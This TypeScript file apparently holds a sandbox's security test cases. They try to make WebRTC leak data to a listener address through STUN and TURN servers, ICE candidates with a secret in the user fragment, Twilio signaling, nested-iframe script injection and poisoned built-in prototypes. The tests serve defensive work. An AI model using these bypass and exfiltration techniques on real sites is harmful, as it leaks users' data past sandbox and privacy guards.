import type { Attack } from './attack';

/*
 * Attempts to let WebRTC send packets to the listeners: through ICE servers, and through candidates with a secret in the
 * user fragment. Those that change what the language itself does get a pane of their own.
 */

/**
 * Through the sandbox's own router, which only the sandbox has.
 * @param lines of a description, where `ADDRESS` and `PORT` stand for the listener.
 */
export const routerAttacks = (lines: readonly string[]): readonly Attack[] => [
  {
    name: 'the router, by candidates named to Twilio’s service',
    given: lines,
    run: async ({ address, udpPort }, lines) => {
      const access = (await (await fetch('/access', { method: 'POST' })).json()) as {
        token: string;
        room: string;
      };
      const written = (lines as string[]).map((line) =>
        line.replaceAll('ADDRESS', address).replaceAll('PORT', String(udpPort)),
      );
      const connection = new RTCPeerConnection();
      connection.addTransceiver('audio');
      await connection.setLocalDescription();
      const sdp = `${connection.localDescription?.sdp}${written.join('\r\n')}\r\n`;
      const ufrag = /a=ice-ufrag:(\S+)/.exec(sdp)?.[1];
      const participant = { revision: 1, tracks: [] };
      const description = { type: 'offer', revision: 1, sdp };
      const named = written.map((line) => ({ candidate: line.slice(2), sdpMid: '0', sdpMLineIndex: 0 }));
      const ice = { candidates: named, ufrag, revision: 1 };
      const socket = new WebSocket('wss://global.vss.twilio.com/signaling');
      const send = (message: object): void => socket.send(JSON.stringify(message));
      socket.onopen = () => {
        const join = { token: access.token, name: access.room, participant };
        const body = { type: 'connect', ...join, peer_connections: [{ id: 'p', description }] };
        send({ type: 'hello', timeout: 5000, body });
      };
      return new Promise((resolve) => {
        socket.onmessage = ({ data }) => {
          const { body } = JSON.parse(String(data)) as { body?: { type: string; code?: number } };
          if (body?.type === 'error') resolve(`error ${body.code}`);
          if (body?.type !== 'connected') return;
          send({ type: 'msg', body: { type: 'update', peer_connections: [{ id: 'p', ice }] } });
          setTimeout(resolve, 1500, 'named');
        };
      });
    },
    outcome: 'named',
  },
];

export const WEBRTC_ATTACKS: readonly Attack[] = [
  {
    name: 'a STUN and a TURN server',
    run: async ({ address, udpPort, turnPort }) => {
      const connection = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:${address}:${udpPort}` },
          { urls: `turn:${address}:${turnPort}?transport=tcp`, username: 'secret', credential: 'x' },
        ],
      });
      connection.createDataChannel('x');
      await connection.setLocalDescription();
      return new Promise((resolve) => setTimeout(resolve, 900, 'gathered'));
    },
    outcome: 'gathered',
    arrives: ['udp'],
  },
  {
    name: 'a STUN server by a later configuration',
    run: async ({ address, udpPort }) => {
      const connection = new RTCPeerConnection();
      connection.setConfiguration({ iceServers: [{ urls: `stun:${address}:${udpPort}` }] });
      connection.createDataChannel('x');
      await connection.setLocalDescription();
      return new Promise((resolve) => setTimeout(resolve, 900, 'gathered'));
    },
    outcome: 'gathered',
    arrives: ['udp'],
  },
  {
    name: 'the constructor by other ways',
    run: async ({ address, udpPort }) => {
      type Constructor = typeof RTCPeerConnection;
      const configuration = { iceServers: [{ urls: `stun:${address}:${udpPort}` }] };
      const { webkitRTCPeerConnection: alias } = window as unknown as {
        webkitRTCPeerConnection?: Constructor;
      };
      class Subclass extends RTCPeerConnection {}
      const ways: (() => RTCPeerConnection)[] = [
        () => new (RTCPeerConnection.prototype.constructor as Constructor)(configuration),
        () => new (alias as Constructor)(configuration),
        () => new Subclass(configuration),
        () => new (Object.getPrototypeOf(Subclass) as Constructor)(configuration),
        () => Reflect.construct(RTCPeerConnection, [configuration], Object) as RTCPeerConnection,
      ];
      const { createDataChannel, setLocalDescription } = RTCPeerConnection.prototype;
      for (const make of ways) {
        try {
          const connection = make();
          createDataChannel.call(connection, 'x');
          await Reflect.apply(setLocalDescription, connection, []);
        } catch {
          // a way that is closed altogether
        }
      }
      return new Promise((resolve) => setTimeout(resolve, 900, 'tried'));
    },
    outcome: 'tried',
    arrives: ['udp'],
  },
  {
    name: 'replacing the guarded constructor',
    run: () => {
      'use strict';
      try {
        Object.defineProperty(window, 'RTCPeerConnection', { value: 1 });
        return 'replaced';
      } catch (error) {
        return (error as Error).name;
      }
    },
    outcome: 'TypeError',
  },
  {
    // Works on a guard that reads twice: on an ordinary page there is none, and nothing arrives.
    name: 'a configuration whose getters change their answer',
    run: async ({ address, udpPort }) => {
      let reads = 0;
      const configuration = {
        get iceServers() {
          return reads++ === 0 ? [] : [{ urls: `stun:${address}:${udpPort}` }];
        },
      };
      const connection = new RTCPeerConnection(configuration);
      connection.createDataChannel('x');
      await connection.setLocalDescription();
      return new Promise((resolve) => setTimeout(resolve, 900, 'gathered'));
    },
    outcome: 'gathered',
  },
  {
    name: 'a candidate with a secret in the user fragment',
    run: async ({ address, udpPort }) => {
      const connection = new RTCPeerConnection();
      connection.createDataChannel('x');
      await connection.setLocalDescription();
      const sdp = connection
        .localDescription!.sdp.replace(/a=candidate.*\r\n/g, '')
        .replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:SECRETDATA')
        .replace(/a=setup:.*/g, 'a=setup:active');
      await connection.setRemoteDescription({ type: 'answer', sdp });
      let reads = 0;
      const local = 'candidate:1 1 udp 1 01234567-89ab-cdef-0123-456789abcdef.local 9 typ host';
      const foreign = `candidate:1 1 udp 2113937151 ${address} ${udpPort} typ host`;
      await connection.addIceCandidate({ candidate: foreign, sdpMid: '0' });
      await connection.addIceCandidate({
        get candidate() {
          return reads++ === 0 ? local : foreign;
        },
        sdpMid: '0',
      });
      const add = connection.addIceCandidate as (...args: unknown[]) => unknown;
      add.call(
        connection,
        new RTCIceCandidate({ candidate: foreign, sdpMid: '0' }),
        () => undefined,
        () => undefined,
      );
      return new Promise((resolve) => setTimeout(resolve, 1200, 'added'));
    },
    outcome: 'added',
    arrives: ['udp'],
  },
  {
    name: 'a candidate inside a description',
    run: async ({ address, udpPort }) => {
      const connection = new RTCPeerConnection();
      connection.createDataChannel('x');
      await connection.setLocalDescription();
      const sdp = connection
        .localDescription!.sdp.replace(/a=candidate.*\r\n/g, '')
        .replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:SECRETDATA')
        .replace(/a=setup:.*/g, 'a=setup:active');
      const line = `a=candidate:1 1 udp 2113937151 ${address} ${udpPort} typ host`;
      await connection.setRemoteDescription({ type: 'answer', sdp: `${sdp}${line}\r\n` });
      return new Promise((resolve) => setTimeout(resolve, 1200, 'set'));
    },
    outcome: 'set',
    arrives: ['udp'],
  },
  {
    name: 'a fresh realm: an empty nested frame',
    run: ({ address, udpPort }) => {
      const frame = document.createElement('iframe');
      document.body.append(frame);
      const realm = frame.contentWindow as unknown as { RTCPeerConnection: typeof RTCPeerConnection };
      const connection = new realm.RTCPeerConnection({
        iceServers: [{ urls: `stun:${address}:${udpPort}` }],
      });
      connection.createDataChannel('x');
      return connection.setLocalDescription();
    },
    outcome: 'TypeError', // there is no frame
  },
  {
    name: 'a fresh realm: scripts in nested documents',
    run: ({ address, udpPort }) => {
      const attack = `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${address}:${udpPort}' }] });
        c.createDataChannel('x'); c.setLocalDescription(); parent.postMessage('nested script ran', '*');`;
      const blob = URL.createObjectURL(new Blob([attack], { type: 'text/javascript' }));
      const close = '</' + 'script>';
      const handler = attack.replaceAll('"', '&quot;').replaceAll('\n', ' ');
      const documents = [
        `<script>${attack}${close}`,
        `<script src="${blob}">${close}`,
        `<script type="module" src="${blob}">${close}`,
        `<img src="x" onerror="${handler}">`,
        `<svg onload="${handler}"></svg>`,
      ];
      return new Promise((resolve) => {
        addEventListener('message', ({ data }) => data === 'nested script ran' && resolve(data));
        for (const srcdoc of documents)
          document.body.append(Object.assign(document.createElement('iframe'), { srcdoc }));
        const src = `javascript:${attack}`;
        document.body.append(Object.assign(document.createElement('iframe'), { src }));
        const page = URL.createObjectURL(new Blob([documents[0]!], { type: 'text/html' }));
        document.body.append(Object.assign(document.createElement('iframe'), { src: page }));
        setTimeout(resolve, 1500, 'no script ran');
      });
    },
    outcome: 'no script ran',
    arrives: ['udp'],
  },
];

/** Each changes what the language does for everyone in the pane. */
export const POISON_ATTACKS: readonly Attack[] = [
  {
    name: 'prototypes poisoned against the check of candidates',
    run: async ({ address, udpPort }) => {
      const sdpOf = async (connection: RTCPeerConnection): Promise<string> => {
        connection.createDataChannel('x');
        await connection.setLocalDescription();
        return connection
          .localDescription!.sdp.replace(/a=candidate.*\r\n/g, '')
          .replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:SECRETDATA')
          .replace(/a=setup:.*/g, 'a=setup:active');
      };
      const connection = new RTCPeerConnection();
      const sdp = await sdpOf(connection);
      const candidate = `candidate:1 1 udp 2113937151 ${address} ${udpPort} typ host`;
      const always = (value: unknown) => () => value as never;
      Object.assign(String.prototype, {
        split: always([]),
        slice: always('.local'),
        indexOf: always(-1),
        includes: always(true),
        match: always(['x']),
        toLowerCase: always('01234567-89ab-cdef-0123-456789abcdef.local'),
        charCodeAt: always(48),
      });
      Object.assign(RegExp.prototype, { test: always(true), exec: always(['x']) });
      Object.assign(Set.prototype, { has: always(true) });
      Object.assign(Map.prototype, { has: always(true), get: always(true) });
      Reflect.defineProperty(Object.prototype, `${address} ${udpPort}`, { get: always(true) });
      Reflect.apply = always(undefined);
      await connection
        .setRemoteDescription({ type: 'answer', sdp: `${sdp}a=${candidate}\r\n` })
        .catch(() => undefined);
      await connection.addIceCandidate({ candidate, sdpMid: '0' }).catch(() => undefined);
      return new Promise((resolve) => setTimeout(resolve, 1200, 'tried'));
    },
    outcome: 'tried',
    arrives: ['udp'],
  },
  {
    name: 'prototypes poisoned against the check of the configuration',
    run: async ({ address, udpPort }) => {
      const servers = [{ urls: `stun:${address}:${udpPort}` }];
      Object.defineProperty(Object.prototype, 'iceServers', { get: () => servers, configurable: true });
      Object.defineProperty(Array.prototype, Symbol.iterator, {
        *value() {
          yield servers[0];
        },
      });
      Reflect.construct = () => ({ iceServers: servers }) as never;
      Object.create = () => ({ iceServers: servers }) as never;
      for (const configuration of [undefined, {}, { iceServers: [] }, { iceServers: servers }]) {
        const connection = configuration ? new RTCPeerConnection(configuration) : new RTCPeerConnection();
        connection.createDataChannel('x');
        await connection.setLocalDescription();
        connection.setConfiguration({ iceServers: [] });
      }
      return new Promise((resolve) => setTimeout(resolve, 900, 'tried'));
    },
    outcome: 'tried',
    arrives: ['udp'],
  },
  {
    name: 'methods reached through Function.prototype',
    run: async ({ address, udpPort }) => {
      // A wrapper that calls the native method by `apply` or `call` would hand it over here.
      const caught: unknown[] = [];
      const { apply, call } = Function.prototype;
      Function.prototype.apply = function (this: unknown, ...args: unknown[]) {
        caught.push(this);
        return Reflect.apply(apply, this, args) as never;
      } as never;
      Function.prototype.call = function (this: unknown, ...args: unknown[]) {
        caught.push(this);
        return Reflect.apply(call, this, args) as never;
      } as never;
      const connection = new RTCPeerConnection();
      connection.createDataChannel('x');
      await connection.setLocalDescription();
      const sdp = connection
        .localDescription!.sdp.replace(/a=candidate.*\r\n/g, '')
        .replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:SECRETDATA')
        .replace(/a=setup:.*/g, 'a=setup:active');
      await connection.setRemoteDescription({ type: 'answer', sdp });
      const candidate = `candidate:1 1 udp 2113937151 ${address} ${udpPort} typ host`;
      await connection.addIceCandidate({ candidate, sdpMid: '0' });
      for (const method of caught) {
        if (typeof method !== 'function') continue;
        try {
          await (Reflect.apply(method, connection, [{ candidate, sdpMid: '0' }]) as unknown);
          await (Reflect.apply(method, connection, [
            { type: 'answer', sdp: `${sdp}a=${candidate}\r\n` },
          ]) as unknown);
        } catch {
          // not a method of a connection
        }
      }
      return new Promise((resolve) => setTimeout(resolve, 1200, 'tried'));
    },
    outcome: 'tried',
    arrives: ['udp'],
  },
  {
    name: 'a forged message of the page that announces an address',
    run: async ({ address, udpPort }) => {
      const forged = { bridge: { type: 'candidate', address, port: udpPort } };
      const ports: MessagePort[] = [];
      const { postMessage } = MessagePort.prototype;
      MessagePort.prototype.postMessage = function (this: MessagePort, ...args: unknown[]) {
        ports.push(this);
        return Reflect.apply(postMessage, this, args) as never;
      } as never;
      Object.defineProperty(MessageEvent.prototype, 'data', { get: () => forged, configurable: true });
      Object.defineProperty(Object.prototype, 'bridge', { get: () => forged.bridge, configurable: true });
      await fetch('/anything').catch(() => undefined);
      await new Promise((resolve) => setTimeout(resolve, 1500)); // the page pings meanwhile
      for (const port of ports) port.dispatchEvent(new MessageEvent('message', { data: forged }));

      const connection = new RTCPeerConnection();
      connection.createDataChannel('x');
      await connection.setLocalDescription();
      const sdp = connection
        .localDescription!.sdp.replace(/a=candidate.*\r\n/g, '')
        .replace(/a=ice-ufrag:.*/g, 'a=ice-ufrag:SECRETDATA')
        .replace(/a=setup:.*/g, 'a=setup:active');
      await connection.setRemoteDescription({ type: 'answer', sdp });
      const candidate = `candidate:1 1 udp 2113937151 ${address} ${udpPort} typ host`;
      await connection.addIceCandidate({ candidate, sdpMid: '0' });
      return new Promise((resolve) => setTimeout(resolve, 1200, 'tried'));
    },
    outcome: 'tried',
    arrives: ['udp'],
  },
];
